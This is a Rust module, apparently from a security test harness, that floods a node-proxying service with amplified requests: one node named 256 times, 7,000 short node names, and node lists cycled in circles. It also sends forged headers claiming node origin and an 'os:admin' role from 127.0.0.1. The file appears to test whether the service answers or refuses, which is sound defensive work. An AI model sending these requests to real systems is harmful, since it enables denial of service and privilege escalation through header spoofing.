//! One request that becomes many: nodes named many times, through each other, by headers that only nodes send.

use std::time::Duration;

use futures_util::future::{join_all, try_join_all};
use http::{HeaderMap, HeaderName, HeaderValue};

use crate::client::{Client, empty};
use crate::{Attack, Fault, Form, Load, Target, attack};

pub(crate) const ALL: &[Attack] = &[
    Attack::quick("nodes-named-often", attack!(often)),
    Attack::quick("ten-thousand-nodes", attack!(ten_thousand)),
    Attack::quick("nodes-in-circles", attack!(circles)),
];

const SOON: Duration = Duration::from_secs(60);
/// The most that one request may name.
const MOST: usize = 256;

fn headers(pairs: &[(&'static str, &str)]) -> HeaderMap {
    let pair = |(name, value): &(&'static str, &str)| {
        Some((HeaderName::from_static(name), HeaderValue::from_str(value).ok()?))
    };
    let mut map = HeaderMap::new();
    for (name, value) in pairs.iter().filter_map(pair) {
        map.append(name, value);
    }
    map
}

/// Calls with these headers on several connections and streams; an answer or a refusal is right.
async fn ask(target: &Target, connections: u64, streams: u64, headers: &HeaderMap) -> Result<Load, Fault> {
    let one = async || {
        let client = Client::open(target).await?;
        let calls = (0..streams).map(|_| client.call(target.port.path(), headers, empty(), SOON));
        join_all(calls).await;
        Ok::<_, Fault>(())
    };
    try_join_all((0..connections).map(|_| one())).await?;
    Ok(Load { connections, attempts: connections.saturating_mul(streams) })
}

fn first(target: &Target) -> &str {
    target.nodes.first().map_or("localhost", String::as_str)
}

async fn often(target: Target, form: Form) -> Result<Load, Fault> {
    let nodes = vec![first(&target); MOST].join(",");
    ask(&target, form.count(2, 16), form.count(20, 100), &headers(&[("nodes", &nodes)])).await
}

/// Short names, so that they fit the headers that a request may have.
async fn ten_thousand(target: Target, form: Form) -> Result<Load, Fault> {
    let nodes = vec!["a"; 7000].join(",");
    let in_one = headers(&[("nodes", &nodes)]);
    let in_many: Vec<_> = vec![("nodes", "a"); 300];
    let load = ask(&target, form.count(2, 16), form.count(20, 100), &in_one).await?;
    let more = ask(&target, form.count(2, 16), form.count(20, 100), &headers(&in_many)).await?;
    Ok(Load {
        connections: load.connections.saturating_add(more.connections),
        attempts: load.attempts.saturating_add(more.attempts),
    })
}

/// Every node in turn, many times; and what a node writes that passes on.
async fn circles(target: Target, form: Form) -> Result<Load, Fault> {
    let all: Vec<&str> = target.nodes.iter().map(String::as_str).cycle().take(MOST).collect();
    let nodes = all.join(",");
    let mut load = Load::default();
    for pairs in [
        vec![("nodes", nodes.as_str())],
        vec![("nodes", nodes.as_str()), ("proxyfrom", "node")],
        vec![("nodes", nodes.as_str()), ("talos-role", "os:admin"), ("billet-caller", "127.0.0.1")],
    ] {
        let asked = ask(&target, form.count(1, 8), form.count(4, 50), &headers(&pairs)).await?;
        load.connections = load.connections.saturating_add(asked.connections);
        load.attempts = load.attempts.saturating_add(asked.attempts);
    }
    Ok(load)
}
